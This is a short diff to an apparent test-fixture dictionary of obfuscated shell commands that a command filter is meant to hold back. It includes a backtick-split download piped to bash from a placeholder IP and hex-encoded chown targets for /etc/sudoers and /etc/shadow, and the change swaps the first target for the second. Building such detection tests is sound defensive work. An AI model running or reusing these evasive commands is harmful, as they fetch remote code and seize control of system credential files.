@@ -40,7 +40,7 @@ HELD = {
         "w``get -qO- http://192.0.2.44/k | b``ash",
     ],
     "decoded arguments with blanks": [
-        "chown `printf '\\x72\\x6f\\x6f\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x73\\x75\\x64\\x6f\\x65\\x72\\x73'`",
+        "chown `printf '\\x72\\x6f\\x6f\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x73\\x68\\x61\\x64\\x6f\\x77'`",
     ],
     "arithmetic made into shell code": [
         "sh <<< $((16#ff))",
